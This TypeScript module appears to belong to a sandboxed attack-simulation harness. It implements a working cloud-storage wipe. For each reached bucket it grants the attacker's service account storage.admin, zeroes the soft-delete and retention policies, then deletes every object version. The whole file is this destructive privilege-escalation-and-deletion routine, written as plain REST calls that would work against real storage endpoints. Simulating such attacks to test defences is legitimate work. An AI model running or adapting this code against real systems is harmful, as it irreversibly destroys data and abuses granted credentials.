/** An attacker empties buckets for good: policies, soft delete and versions included, as far as the credentials go. */
import { ControlClient } from "../../sandbox/cloud/api";
import { socketOf } from "../../sandbox/environment";
import type { Reached } from "./matrix";

interface Listed {
  items?: { name: string; generation: string }[];
  nextPageToken?: string;
}

/**
 * Deletes every version of every object. Whoever may change the policy gives itself everything first, and ends the soft delete.
 * @returns how many objects and versions there were
 * @throws when something is left
 */
export async function wipe(dir: string, buckets: readonly Reached[], tell: (line: string) => void): Promise<number> {
  const control = new ControlClient(socketOf(dir));
  const { storageEndpoint } = await control.status();
  let objects = 0;
  for (const { bucket, by } of buckets) {
    const { accessToken } = await control.token(by);
    const call = async (method: string, path: string, body?: object) => {
      const response = await fetch(new URL(`/storage/v1/b/${bucket}${path}`, storageEndpoint), {
        method,
        headers: { authorization: `Bearer ${accessToken}`, "content-type": "application/json" },
        ...(body && { body: JSON.stringify(body) }),
      });
      return { status: response.status, text: await response.text() };
    };
    const policy = await call("GET", "/iam");
    if (policy.status === 200) {
      const { bindings } = JSON.parse(policy.text) as { bindings: object[] };
      const mine = { role: "roles/storage.admin", members: [`serviceAccount:${by}`] };
      await call("PUT", "/iam", { bindings: [...bindings, mine] });
      await call("PATCH", "", { softDeletePolicy: { retentionDurationSeconds: 0 }, retentionPolicy: null });
    }
    for (;;) {
      const listed = await call("GET", "/o?versions=true&maxResults=500");
      if (listed.status !== 200) throw new Error(`${by} cannot list ${bucket}: ${listed.text.slice(0, 200)}`);
      const { items = [] } = JSON.parse(listed.text) as Listed;
      if (items.length === 0) break;
      for (const { name, generation } of items) {
        const gone = await call("DELETE", `/o/${encodeURIComponent(name)}?generation=${generation}`);
        if (gone.status >= 300) throw new Error(`${by} cannot delete ${bucket}/${name}: ${gone.text.slice(0, 200)}`);
        objects += 1;
      }
    }
    tell(`${bucket} is empty`);
  }
  return objects;
}
